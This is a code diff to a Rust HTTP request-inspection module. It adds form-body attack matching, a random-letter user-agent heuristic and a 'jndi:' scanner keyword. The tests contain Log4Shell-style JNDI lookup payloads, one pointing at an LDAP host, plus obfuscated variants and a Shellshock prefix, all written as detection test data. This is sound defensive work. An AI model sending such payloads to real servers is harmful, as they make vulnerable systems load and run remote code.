@@ -11,6 +11,7 @@ use std::sync::LazyLock;
 
 use super::matcher::Matcher;
 use super::message::percent_decode;
+use crate::names::dns::measure::{GENERATED, cost};
 
 /// What a URL or a header tries.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -287,6 +288,14 @@ pub fn header_attack(value: &[u8]) -> Option<&'static str> {
     LOOKUPS.find(&value[at..]).map(|(pattern, _)| pattern)
 }
 
+/// The same in the first bytes of a form.
+pub fn form_attack(form: &[u8]) -> Option<&'static str> {
+    if !form.iter().any(|b| matches!(b, b'$' | b'%')) {
+        return None;
+    }
+    LOOKUPS.find(&percent_decode(form, true)).map(|(pattern, _)| pattern)
+}
+
 /// Parameters that hold a secret, in a query or a form.
 const SECRETS: &[&str] = &[
     "password",
@@ -402,6 +411,7 @@ const SCANNERS: &[&str] = &[
     "mirai",
     "gbrmss",
     "zbtls",
+    "jndi:",
 ];
 
 /// Programs and libraries that fetch without a person before them.
@@ -410,15 +420,12 @@ const SCRIPTS: &[&str] = &[
     "wget/",
     "python-requests/",
     "python-urllib/",
+    "python/",
     "aiohttp/",
     "httpx/",
     "libwww-perl/",
     "lwp::simple",
     "go-http-client/",
-    "winhttp",
-    "java/",
-    "apache-httpclient/",
-    "okhttp/",
     "node-fetch",
     "axios/",
     "ruby",
@@ -426,7 +433,6 @@ const SCRIPTS: &[&str] = &[
     "php/",
     "guzzlehttp",
     "scrapy/",
-    "microsoft bits",
 ];
 
 /// What a user agent is besides a browser or an app.
@@ -460,6 +466,10 @@ pub fn agent(value: &[u8]) -> Option<Agent> {
     }
     if !value.iter().any(u8::is_ascii_alphanumeric) {
         return Some(Agent::Suspicious("no letters"));
+    }
+    // One word without meaning: malware makes up such names.
+    if value.len() >= 12 && value.iter().all(u8::is_ascii_alphabetic) && cost(value) > GENERATED {
+        return Some(Agent::Suspicious("random letters"));
     }
     match AGENTS.find(value) {
         Some((tool, 0)) => return Some(Agent::Suspicious(tool)),
@@ -605,6 +615,8 @@ mod tests {
         assert_eq!(header_attack(b"${jndi:ldap://x}"), Some("${jndi:"));
         assert_eq!(header_attack(b"x ${${lower:j}ndi"), Some("${${"));
         assert_eq!(header_attack(b"() { :; }; echo"), Some("() {"));
+        assert_eq!(form_attack(b"u=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"), Some("${jndi:"));
+        assert_eq!(form_attack(b"price=%2410"), None);
         assert_eq!(header_attack(b"price ${amount}"), None);
     }
 
@@ -641,6 +653,8 @@ mod tests {
         assert_eq!(agent(b"sqlmap/1.7"), Some(Agent::Suspicious("sqlmap")));
         assert_eq!(agent(b"Mozilla/5.00 (Nikto/2.1.6)"), Some(Agent::Suspicious("nikto")));
         assert_eq!(agent(b""), Some(Agent::Suspicious("empty")));
+        assert_eq!(agent(b"vQxKzbjWtpHgmXqr"), Some(Agent::Suspicious("random letters")));
+        assert_eq!(agent(b"MicroMessengerClient"), None);
         assert_eq!(agent(b"**"), Some(Agent::Suspicious("no letters")));
         assert_eq!(agent(&[b'a'; 1000]), Some(Agent::Suspicious("too long")));
         assert!(matches!(
